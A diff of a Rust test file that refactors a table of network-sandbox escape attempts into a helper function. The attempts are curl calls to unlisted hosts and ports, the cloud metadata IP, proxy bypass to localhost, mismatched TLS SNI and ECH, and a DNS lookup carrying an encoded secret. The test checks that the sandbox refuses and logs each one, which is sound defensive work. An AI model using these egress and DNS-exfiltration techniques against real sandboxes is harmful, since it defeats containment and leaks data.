@@ -150,53 +150,7 @@ fn every_other_way_out_is_refused_and_recorded() {
         let bench = bench;
         let fields = json!({"net": ["a.example", "b.example"]});
         let (sandbox, plan) = bench.start_with(fields, std::slice::from_ref(&ca)).await;
-        let tunnel = Some("a.example:443");
-        let plain_hello = hello(Some("a.example"), false);
-        use ViolationWhy as Why;
-        let curl = |rest: &str| format!("curl -sSf -m 5 --cacert ca {rest}");
-        for (script, why, name, port) in [
-            (curl("https://x.example/"), Why::Name, Some("x.example"), 443),
-            (curl("https://x.a.example/"), Why::Name, Some("x.a.example"), 443),
-            (curl("http://y.example/"), Why::Name, Some("y.example"), 80),
-            (curl("https://a.example:8443/"), Why::Port, Some("a.example"), 8443),
-            (curl("http://b.example:22/"), Why::Port, Some("b.example"), 22),
-            (curl("https://192.0.2.1/"), Why::IpLiteral, Some("192.0.2.1"), 443),
-            (curl("http://169.254.169.254/"), Why::IpLiteral, Some("169.254.169.254"), 80),
-            (curl("https://[2001:db8::1]/"), Why::IpLiteral, Some("2001:db8::1"), 443),
-            (
-                curl(&format!("-x http://{PROXY} --noproxy '' http://127.0.0.1:{own}/")),
-                Why::IpLiteral,
-                Some("127.0.0.1"),
-                own,
-            ),
-            (
-                curl(&format!("-x http://{PROXY} --noproxy '' http://localhost:{own}/")),
-                Why::Name,
-                Some("localhost"),
-                own,
-            ),
-            // TLS that asks for another name than its tunnel, or for one that is not listed.
-            (
-                say(PROXY, tunnel, &hello(Some("b.example"), false)),
-                Why::Sni,
-                Some("b.example"),
-                443,
-            ),
-            (
-                curl("--noproxy '*' --resolve z.example:443:127.0.0.53 https://z.example/"),
-                Why::Name,
-                Some("z.example"),
-                443,
-            ),
-            (say(PROXY, tunnel, &hello(None, false)), Why::NoSni, Some("a.example"), 443),
-            (say(PROXY, tunnel, &hello(Some("a.example"), true)), Why::Ech, Some("a.example"), 443),
-            (say(PROXY, tunnel, "5353482d322e30"), Why::NotTls, Some("a.example"), 443),
-            (say("127.0.0.53:443", None, &hello(Some("a.example"), true)), Why::Ech, None, 443),
-            (say("127.0.0.53:443", None, "474554202f"), Why::NotTls, None, 443),
-            (say(PROXY, Some("b.example:80"), &plain_hello), Why::Port, Some("b.example"), 80),
-            // A secret in a question.
-            ("getent hosts c2VjcmV0.t.example".into(), Why::Name, Some("c2VjcmV0.t.example"), 53),
-        ] {
+        for (script, why, name, port) in ways_out(own) {
             let before = count(&sandbox.traffic().violations().0, why, name, port);
             let said = sh(&sandbox, &plan, &script).await;
             assert_ne!(said.outcome.exit, 0, "{script}: {}", said.stdout);
@@ -231,6 +185,54 @@ fn every_other_way_out_is_refused_and_recorded() {
         verified(&sandbox.wipe("task-end").await);
     });
 }
+
+/// What is tried, and what is recorded of it: why, the name and the port.
+fn ways_out(own: u16) -> Vec<WayOut> {
+    use ViolationWhy as Why;
+    let tunnel = Some("a.example:443");
+    let plain_hello = hello(Some("a.example"), false);
+    let curl = |rest: &str| format!("curl -sSf -m 5 --cacert ca {rest}");
+    vec![
+        (curl("https://x.example/"), Why::Name, Some("x.example"), 443),
+        (curl("https://x.a.example/"), Why::Name, Some("x.a.example"), 443),
+        (curl("http://y.example/"), Why::Name, Some("y.example"), 80),
+        (curl("https://a.example:8443/"), Why::Port, Some("a.example"), 8443),
+        (curl("http://b.example:22/"), Why::Port, Some("b.example"), 22),
+        (curl("https://192.0.2.1/"), Why::IpLiteral, Some("192.0.2.1"), 443),
+        (curl("http://169.254.169.254/"), Why::IpLiteral, Some("169.254.169.254"), 80),
+        (curl("https://[2001:db8::1]/"), Why::IpLiteral, Some("2001:db8::1"), 443),
+        (
+            curl(&format!("-x http://{PROXY} --noproxy '' http://127.0.0.1:{own}/")),
+            Why::IpLiteral,
+            Some("127.0.0.1"),
+            own,
+        ),
+        (
+            curl(&format!("-x http://{PROXY} --noproxy '' http://localhost:{own}/")),
+            Why::Name,
+            Some("localhost"),
+            own,
+        ),
+        // TLS that asks for another name than its tunnel, or for one that is not listed.
+        (say(PROXY, tunnel, &hello(Some("b.example"), false)), Why::Sni, Some("b.example"), 443),
+        (
+            curl("--noproxy '*' --resolve z.example:443:127.0.0.53 https://z.example/"),
+            Why::Name,
+            Some("z.example"),
+            443,
+        ),
+        (say(PROXY, tunnel, &hello(None, false)), Why::NoSni, Some("a.example"), 443),
+        (say(PROXY, tunnel, &hello(Some("a.example"), true)), Why::Ech, Some("a.example"), 443),
+        (say(PROXY, tunnel, "5353482d322e30"), Why::NotTls, Some("a.example"), 443),
+        (say("127.0.0.53:443", None, &hello(Some("a.example"), true)), Why::Ech, None, 443),
+        (say("127.0.0.53:443", None, "474554202f"), Why::NotTls, None, 443),
+        (say(PROXY, Some("b.example:80"), &plain_hello), Why::Port, Some("b.example"), 80),
+        // A secret in a question.
+        ("getent hosts c2VjcmV0.t.example".into(), Why::Name, Some("c2VjcmV0.t.example"), 53),
+    ]
+}
+
+type WayOut = (String, ViolationWhy, Option<&'static str>, u16);
 
 fn build(command: &Command, script: &str) -> Command {
     Command {
